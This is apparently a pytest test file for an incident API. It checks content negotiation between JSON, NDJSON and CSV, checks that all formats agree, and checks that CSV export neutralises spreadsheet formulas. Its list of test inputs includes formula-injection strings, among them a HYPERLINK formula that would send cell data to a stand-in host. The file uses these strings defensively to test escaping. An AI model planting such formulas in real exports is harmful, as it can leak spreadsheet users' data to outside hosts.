"""JSON, NDJSON or CSV as Accept asks, on changes/list, incidents/list and incidents/history. What a reply of each must look like is checked for
every exchange by lib/contract.py; here: which form is chosen, that all forms say the same, and what spreadsheets do with cells."""
import csv
import io
import json

import pytest

from lib.contract import CONTRACT
from lib.organisation import Organisation

NASTY = ["=1+1", "+1", "-1", "@SUM(A1)", "\tTAB", "'quoted", "＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
         'say "hi"', "a,b", "two\nlines", "日本語、テスト", "😀", " blank ", "", "\u2028", "=\"\"\"", "plain"]
OPERATIONS = {"incidents/list": {"page_size": 10000}, "incidents/history": {"page_size": 10000}, "changes/list": {"limit": 1000}}
each = pytest.mark.parametrize("name", OPERATIONS)


@pytest.fixture(scope="module")
def written(gateway):
    """A client with texts that are hard on formats, and with more rows than one slice of a streamed page."""
    org = Organisation(gateway, "Formats")
    for text in NASTY:
        org.new_comment(org.new_incident(summary=text or "none", description=text, recommendations=text)["incident_id"], text=text or "none")
    for i in range(520):
        org.new_incident(summary=f"many {i}")
    org.new_response()
    return org


def all_of(by, name, accept):
    """(items, content type) of everything, page after page for changes/list."""
    op, body, items = CONTRACT.by_name[name], dict(OPERATIONS[name]), []
    while True:
        reply = by.call(name, body, Accept=accept).must()
        kind = reply.header("Content-Type").split(";")[0]
        if kind == "application/json":
            part = reply.json["changes"] if name == "changes/list" else reply.json
        elif kind == "application/x-ndjson":
            part = CONTRACT.ndjson_items(reply.body)
        else:
            part = CONTRACT.csv_items(reply.body, CONTRACT.item_of(op.raw["responses"]["200"]["content"]["application/json"]["schema"]))
        items += part
        if name != "changes/list" or reply.header("Changes-More") == "false":
            return items, kind
        body["after"] = int(reply.header("Changes-Next"))


@each
def test_all_forms_say_the_same(written, name):
    as_json, kind = all_of(written.sup, name, "application/json")
    assert kind == "application/json" and len(as_json) > 500
    for accept in ("application/x-ndjson", "text/csv"):
        items, kind = all_of(written.sup, name, accept)
        assert kind == accept
        assert items == as_json
    texts = json.dumps(as_json, ensure_ascii=False)
    assert "日本語、テスト" in texts and "😀" in texts


@pytest.mark.parametrize("accept, wanted", [
    (None, "json"), ("*/*", "json"), ("application/json", "json"), ("application/*", "json"), ("text/*", "csv"), ("text/csv", "csv"),
    ("TEXT/CSV", "csv"), ("text/csv;charset=utf-8", "csv"), ("text/csv; q=0.5, application/x-ndjson", "x-ndjson"),
    ("text/csv, */*", "csv"), ("text/csv, */*;q=0.1", "csv"), ("text/csv;q=0.1, */*", "json"), ("application/x-ndjson;q=0.9,application/json;q=0.8", "x-ndjson"),
    ("application/json, text/csv", "json"), ("text/csv, application/json", "json"), ("application/json;q=0, text/csv;q=0.1", "csv"),
    ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "json"), ("image/png", "json"), ("text/cef", "json"), ("", "json"),
    (";;;,,,=", "json"), ("text/csv;q=0", "json"), ("text/csv;q=abc", "csv"), ("*", "json"), ("application/json;q=0", "json"),
    ("text/csv;q=0, */*", "json"), ("text/plain, text/csv;q=0.001", "csv"), ("a/b," * 200 + "text/csv", "csv"), ("text/csvx", "json"),
    ("application/vnd.ms-excel, text/csv", "csv"), ("application/*;q=0.2, text/*;q=0.3", "csv"), ("application/x-ndjson ; q=1.000", "x-ndjson")])
def test_which_form_is_chosen(written, accept, wanted):
    for name, body in (("incidents/list", {"page_size": 1}), ("incidents/list", {"min_update_time": 9000000000000}),
                       ("incidents/history", {"page_size": 1}), ("changes/list", {"limit": 1})):
        headers = {} if accept is None else {"Accept": accept}
        reply = written.sup.call(name, body, **headers).must()
        assert reply.header("Content-Type").split(";")[0].split("/")[1] == wanted, f"{name} {accept}"


@each
@pytest.mark.parametrize("accept", ["application/x-ndjson", "text/csv"])
def test_faults_stay_problems(written, name, accept):
    reply = written.sup.call(name, {"no_such": 1}, Accept=accept).must(400, "invalid")
    assert reply.header("Content-Type") == "application/problem+json"


def cells(by, name, body, accept="text/csv"):
    body = by.call(name, body, Accept=accept).must().body.decode()
    return list(csv.reader(io.StringIO(body, newline=""), strict=True)), body


def test_no_cell_is_a_formula(written):
    rows, _ = cells(written.sup, "incidents/list", {"page_size": 10000, "fields": ["summary", "description", "recommendations", "incident_id"]})
    found = {row[0] for row in rows}
    for text in NASTY:
        guarded = "'" + text if text[:1] in tuple("=+-@\t'＝＋－＠") and text else text or "none"
        assert guarded in found, (text, sorted(found)[:40])
    for row in rows:
        assert not [c for c in row if c[:1] in tuple("=+-@\t\r\n＝＋－＠") and c], row


def test_columns_are_the_fields_asked_for_in_their_order(written):
    fields = ["update_time", "summary", "incident_id", "counts", "external_ref"]
    rows, _ = cells(written.sup, "incidents/list", {"page_size": 2, "fields": fields})
    assert rows[0] == fields and len(rows) == 3
    assert rows[1][0].isdigit() and json.loads(rows[1][3])["history"] >= 1
    html, _ = cells(written.sup, "incidents/list", {"fields": ["description"], "markdown_to_html": True, "page_size": 1})
    assert html[1][0].startswith("<p>")


@each
def test_an_empty_csv_has_its_header(fresh, name):
    body = {"incidents/list": {"min_update_time": 9000000000000}, "incidents/history": {"min_record_time": 9000000000000},
            "changes/list": {"after": -1}}[name]
    rows, text = cells(fresh.sup, name, body)
    assert len(rows) == 1 and text.endswith("\r\n") and len(rows[0]) >= 4
    assert fresh.sup.call(name, body, Accept="application/x-ndjson").must().body == b""


def test_the_byte_order_mark_is_for_who_asks(written):
    for accept, marked in (("text/csv", False), ("text/csv; bom=true", True), ("text/csv;bom=false", False), ("text/csv;bom=true;q=0.5", True),
                           ("text/csv, text/csv;bom=true", True), ("application/x-ndjson;bom=true", False)):
        body = written.sup.call("incidents/list", {"page_size": 1}, Accept=accept).must().body
        assert body.startswith(b"\xef\xbb\xbf") is marked, accept
        assert body.count(b"\xef\xbb\xbf") <= 1


def test_a_line_is_a_line(written):
    """Free-form members may hold line breaks between tokens."""
    body = written.response_body(parameters={"interpreter": "powershell", "script": "a\r\nb\u2028"}, type="RUN_SCRIPT")
    written.soc.ok("responses/create", body)
    for name in OPERATIONS:
        reply = written.sup.call(name, OPERATIONS[name], Accept="application/x-ndjson").must()
        for line in reply.body.split(b"\n")[:-1]:
            assert json.loads(line) and b"\r" not in line
